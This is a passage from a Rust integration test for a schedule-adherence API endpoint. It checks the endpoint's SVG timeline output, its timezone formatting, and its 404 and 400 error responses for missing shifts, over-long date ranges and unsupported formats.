    let svg = response.text().await.unwrap();
    assert!(
        svg.starts_with("<svg xmlns=\"http://www.w3.org/2000/svg\""),
        "{svg}"
    );
    assert_eq!(svg.matches("<g data-from=").count(), spans.len(), "{svg}");
    assert!(
        svg.contains(&format!(
            "<g data-from=\"{}\" data-to=\"{}\" data-judged=\"authorised\">",
            instant(t0 + Duration::minutes(30)),
            instant(t0 + Duration::minutes(45))
        )),
        "{svg}"
    );
    let berlin: chrono_tz::Tz = "Europe/Berlin".parse().unwrap();
    let local = (t0 + Duration::minutes(30))
        .with_timezone(&berlin)
        .to_rfc3339_opts(SecondsFormat::Millis, true);
    assert!(svg.contains(&format!("<title>{local} – ")), "{svg}");
    assert!(
        svg.contains(">logged in off shift</text>"),
        "the legend: {svg}"
    );

    // No shift stored: nothing to draw it against.
    let response = day(unscheduled, &[]).await;
    assert_eq!(response.status(), 404);
    let problem: Value = response.json().await.unwrap();
    assert!(
        problem["detail"]
            .as_str()
            .unwrap()
            .contains(unscheduled.as_str()),
        "{problem}"
    );
    // More than a month, or a format it does not draw: 400 naming the parameter.
    let long = instant(t0 + Duration::days(32));
    let response = app
        .http
        .get(format!("{}/v1/agents/{agent}/adherence", app.address))
        .query(&[("from", from.as_str()), ("to", long.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 400);
    let problem: Value = response.json().await.unwrap();
    assert_eq!(problem["parameter"], "to", "{problem}");
    let response = day(agent, &[("format", "png")]).await;
    assert_eq!(response.status(), 400);
    let problem: Value = response.json().await.unwrap();
    assert_eq!(problem["parameter"], "format", "{problem}");
}
